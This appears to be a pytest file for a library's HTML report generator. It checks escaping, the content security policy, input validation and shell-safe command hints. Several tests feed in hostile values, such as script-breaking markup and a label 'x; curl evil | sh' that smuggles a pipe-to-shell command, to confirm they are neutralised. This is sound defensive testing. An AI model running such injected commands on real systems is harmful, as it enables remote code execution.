"""The report as a file: what it needs, what it refuses, and that nothing in it is loaded or run."""

import json
import re
import shlex
import sys
from dataclasses import replace
from html.parser import HTMLParser

import pyarrow as pa
import pytest

import vocabfold as vf
from support.visits import LABEL, visits
from vocabfold.evaluation.comparison import read_comparison
from vocabfold.evaluation.sweep import sweep
from vocabfold.report.findings import findings, percent
from vocabfold.report.page import embedded, page, short
from vocabfold.report.plots import plots
from vocabfold.report.summary import summarise


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.texts = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.texts.append(data)


def parsed(path):
    tags = Tags()
    tags.feed(path.read_text("utf-8"))
    return tags


def test_the_page_is_one_file_that_needs_no_other(reported):
    tags = parsed(reported.path).tags
    assert not [tag for tag, _ in tags if tag in ("img", "link", "iframe", "object", "embed", "base", "form")]
    assert all("src" not in attributes for _, attributes in tags)
    assert all(attributes["href"].startswith("#") for _, attributes in tags if "href" in attributes)
    assert not [name for _, attributes in tags for name in attributes if name.startswith("on")]
    assert [attributes.get("type") for tag, attributes in tags if tag == "script"] == [
        "application/json",
        None,
        None,
    ]
    (policy,) = (a["content"] for _, a in tags if a.get("http-equiv") == "Content-Security-Policy")
    assert "default-src 'none'" in policy
    assert "unsafe-eval" not in policy
    assert not re.search(r"script-src[^;]*unsafe", policy)


def test_hostile_values_are_text(reported):
    content = reported.path.read_text("utf-8")
    assert "<script>window" not in content
    assert "<img" not in re.sub(r"<script>.*?</script>", "", content, flags=re.DOTALL)
    assert "<b onmouseover" not in content
    assert "x" * 100 not in content
    assert "\u202e" not in content
    names = [text for text in parsed(reported.path).texts if "onmouseover" in text and "<b" in text]
    assert names
    (data,) = re.findall(r'<script type="application/json" id="data">(.*?)</script>', content, re.DOTALL)
    assert json.loads(data)["summary"]["about"]["label"] == LABEL


def test_every_plot_says_what_it_shows_and_has_its_data_beneath(reported):
    said = findings(reported.summary)
    assert set(plots(reported.summary)) <= set(said)
    tags = parsed(reported.path)
    places = {a["id"] for _, a in tags.tags if a.get("class") == "plot"}
    for name in plots(reported.summary):
        assert f"plot-{name}" in places
        if name != "strip":  # whose title changes with the column
            assert said[name] in tags.texts
    tables = {a["id"] for tag, a in tags.tags if tag == "table"}
    assert {"all-budgets", "column-table", "segments", "trust-table", "bins", "trials"} <= tables


def test_the_same_figures_give_the_same_page(reported):
    assert page(reported.summary) == reported.path.read_text("utf-8")


@pytest.mark.parametrize(
    ("share", "text"),
    [
        *((1, "100 %"), (0.5, "50.0 %"), (0.99951, "99.951 %"), (0.9999999, "nearly 100 %"), (0, "0 %")),
        *((0.000325, "0.033 %"), (-0.2, "-20 %")),
    ],
)
def test_shares_show_what_is_missing(share, text):
    assert percent(share) == text


@pytest.mark.filterwarnings("ignore:budget=")
def test_findings_without_anything_to_find():
    rows = visits(300)
    nothing = rows.set_column(3, LABEL, rows[LABEL].take([*range(1, 300), 0]))
    counts = vf.count(nothing, LABEL, ["day"], folds=2)
    book = vf.fit(counts, 1, aim="information")
    summary = summarise(book, sweep(book, counts))
    said = findings(summary)
    assert "day has the only id" in said["columns"]
    assert page(summary)


def test_data_cannot_end_its_element():
    text = embedded({"a": "</script><!--\u2028&", "b": float("nan"), "c": 1 / 3, "d": 2.0})
    assert not set("<>&\u2028") & set(text)
    assert json.loads(text) == {"a": "</script><!--\u2028&", "b": None, "c": 0.333333333, "d": 2}


def test_pictures_are_drawn(reported, tmp_path):
    book, counts = reported.book, reported.counts
    book.report(tmp_path / "r.html", counts=counts, steps=4, pictures=tmp_path / "plots")
    names = {path.name for path in (tmp_path / "plots").iterdir()}
    assert names == {
        f"{name}.{end}" for name in ("budgets", "columns", "information", "strip") for end in ("svg", "png")
    }
    svg = (tmp_path / "plots" / "columns.svg").read_text()
    assert "<script" not in svg
    assert "onmouseover" in svg  # as text
    assert "<b " not in svg
    assert "var(--" not in svg
    assert (tmp_path / "plots" / "columns.png").read_bytes().startswith(b"\x89PNG")
    with pytest.raises(vf.InputError, match=r"plots exists; give another name, or use overwrite=True"):
        book.report(tmp_path / "r2.html", pictures=tmp_path / "plots")


def test_what_cannot_be_is_refused_before_anything_is_computed(reported, tmp_path):
    book, counts = reported.book, reported.counts
    (tmp_path / "there.html").write_text("mine")
    cases = {
        r"the report must be a file that ends in \.html, got .*r\.txt": {"path": tmp_path / "r.txt"},
        r"there\.html exists; give another name": {"path": tmp_path / "there.html"},
        r"there is no folder": {"path": tmp_path / "no" / "r.html"},
        r"steps must be at most 200, got 201": {"steps": 201, "counts": counts},
        r"steps must be at least 3": {"steps": 2, "counts": counts},
        r"label is for held-out rows": {"label": "x"},
        r"counts must come from vf\.count or vf\.load_counts, got str": {"counts": "counts"},
        r"no\.json cannot be read": {"compare": tmp_path / "no.json"},
        r"steps is for other budgets, which need the counts": {"steps": 5},
        r"positive is for held-out rows": {"positive": 0},
        r"the comparison was made on other counts .* 2 values in 1 column .* Compare the counts": {
            "compare": vf.compare({"a": ([1, 2], [2, 1])}, 1, "exact")
        },
        r"pictures must be a folder, but .*there\.html is a file": {"pictures": tmp_path / "there.html"},
        r"column 'user' is not in": {"heldout": visits(5).drop_columns(["user"])},
    }
    for message, options in cases.items():
        with pytest.raises(vf.InputError, match=message):
            book.report(**{"path": tmp_path / "r.html"} | options)
    assert (tmp_path / "there.html").read_text() == "mine"
    assert [path.name for path in tmp_path.iterdir()] == ["there.html"]
    book.report(tmp_path / "there.html", overwrite=True)
    assert "<!doctype html>" in (tmp_path / "there.html").read_text("utf-8")


@pytest.mark.parametrize("library", ["jinja2", "vl_convert"])
def test_what_is_missing_is_named(reported, tmp_path, monkeypatch, library):
    book = reported.book
    monkeypatch.setitem(sys.modules, library, None)
    with pytest.raises(vf.MissingDependency, match=r"pip install jinja2 vl-convert-python"):
        book.report(tmp_path / "r.html")


@pytest.mark.parametrize(
    "content",
    [
        "",
        "[]",
        "{}",
        '{"trials": [], "n_columns": 1, "n_values": 2, "total": 1}',
        '{"trials": [{"method": 1}], "n_columns": 1, "n_values": 2, "total": 1}',
        "[" * 100_000,
        "\xff",
    ],
)
def test_a_damaged_comparison_is_refused(tmp_path, content):
    (tmp_path / "c.json").write_text(content, "latin-1")
    with pytest.raises(vf.InputError, match=r"c\.json is not the output of 'vocabfold compare --json'"):
        read_comparison(tmp_path / "c.json")


def test_a_comparison_with_one_wrong_field_is_refused(reported, tmp_path):
    compared = reported.compared
    good = {"n_columns": 3, "n_values": 9, "total": 0.5, "trials": compared.to_arrow().to_pylist()}
    path = tmp_path / "c.json"
    path.write_text(json.dumps(good, default=str))
    assert [trial.loss for trial in read_comparison(path)] == [trial.loss for trial in compared]
    for name, value in (
        ("method", 3),
        ("budget", 0),
        ("budget", "x"),
        ("loss", True),
        ("gap", None),
        ("size", 1.5),
        ("loss", -1),
        ("loss", 10**400),
        ("budget", 10**400),
    ):
        trial = {**good["trials"][0], name: value}
        path.write_text(json.dumps({**good, "trials": [trial]}, default=str))
        with pytest.raises(vf.InputError, match="is not the output of"):
            read_comparison(path)
    for name, value in (
        ("total", 0),
        ("total", "x"),
        ("total", 10**400),
        ("n_values", -1),
        ("n_columns", None),
    ):
        path.write_text(json.dumps({**good, name: value}, default=str))
        with pytest.raises(vf.InputError, match="is not the output of"):
            read_comparison(path)


def test_a_saved_codebook_says_when(reported, tmp_path):
    book = reported.book
    book.save(tmp_path / "book")
    loaded = vf.load(tmp_path / "book")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:+]+", loaded.saved)
    assert f"saved {loaded.saved}" in page(summarise(loaded)).replace("&#43;", "+")


def test_notebooks_show_a_small_version(reported):
    book = reported.book
    html = book._repr_html_()
    assert html.startswith("<p><b>Codebook</b>: ")
    assert html.count("<tr>") == 5
    assert html.count("background:#0b6bcb") == 3
    assert "<b onmouseover" not in html
    assert "CV gain (nats)" in html
    many = vf.fold_table({f"c{i}": ([1, 2], [2, 1]) for i in range(50)}, 100)._repr_html_()
    assert "... and 10 more columns" in many
    assert "<b>Fold</b>" in vf.fold([1, 2], [2, 1], 2)._repr_html_()


@pytest.mark.parametrize(
    ("number", "text"),
    [
        (None, "–"),
        (0, "0"),
        (-0.0, "0"),
        (999.6, "1,000"),
        (0.12345, "0.123"),
        (1.2e-5, "1.2e-5"),
        (1234.5, "1,234"),
        (-0.5, "-0.5"),
    ],
)
def test_numbers_are_short(number, text):
    assert short(number) == text


def test_texts_of_files_are_shown_harmlessly(reported, tmp_path):
    """A comparison and a header may hold any text: of any length, and such as no file can hold."""
    good = {"n_columns": 3, "n_values": reported.compared.n_values, "total": reported.compared.total}
    trials = reported.compared.to_arrow().to_pylist()
    trials[0]["note"] = "\ud800\u202e" + "x" * 10**6
    trials[0]["method"] = "</script><b>"
    (tmp_path / "c.json").write_text(json.dumps(good | {"trials": trials}, default=str))
    book = replace(reported.book, saved="\ud800" * 1000)
    book.report(tmp_path / "r.html", compare=tmp_path / "c.json")
    assert len((tmp_path / "r.html").read_text("utf-8")) < 3e6
    assert "\u202e" not in (tmp_path / "r.html").read_text("utf-8")


@pytest.mark.parametrize(
    ("setting", "value"),
    [("method", "foo"), ("budget", -1), ("budget", 10**30), ("allocation", "foo"), ("dedicated_min", 0)],
)
def test_settings_of_a_header_are_checked(reported, tmp_path, setting, value):
    book = replace(reported.book, settings=dict(reported.book.settings) | {setting: value})
    with pytest.raises(vf.InputError, match=setting):
        book.report(tmp_path / "r.html", counts=reported.counts)


def test_commands_can_be_pasted(tmp_path):
    label = "x; curl evil | sh"
    rows = visits().rename_columns(["site", "user", "day", label])
    text = pa.array(["yes" if one else "no" for one in rows[label].to_pylist()])
    rows = rows.set_column(3, label, text)
    book = vf.fit(vf.count(rows, label, ["user", "day"], positive="yes"), 20)
    commands = summarise(book)["about"]["commands"]
    assert shlex.split(commands["count"]) == [
        *("vocabfold", "count", "DATA", "--label", label, "--positive", "yes", "--features", "user,day"),
        *("--folds", "5", "-o", "COUNTS"),
    ]
    book.report(tmp_path / "r.html")
    hints = [
        text for text in parsed(tmp_path / "r.html").texts if text.startswith("vocabfold") and "curl" in text
    ]
    assert len(hints) == 2
    assert all(f"--label '{label}'" in text for text in hints)


def test_a_bound_is_claimed_only_of_the_rows_as_they_are():
    counts = vf.count(visits(), LABEL, ["user"])
    assert "more than the optimum for 9 ids (proved)" in page(summarise(vf.fit(counts, 9, aim="information")))
    for options in ({"min_count": 10}, {"smoothing": 50}):
        text = page(summarise(vf.fit(counts, 9, aim="information", **options)))
        assert "(proved)</span>" not in text
        assert "on the counts that were folded" in text
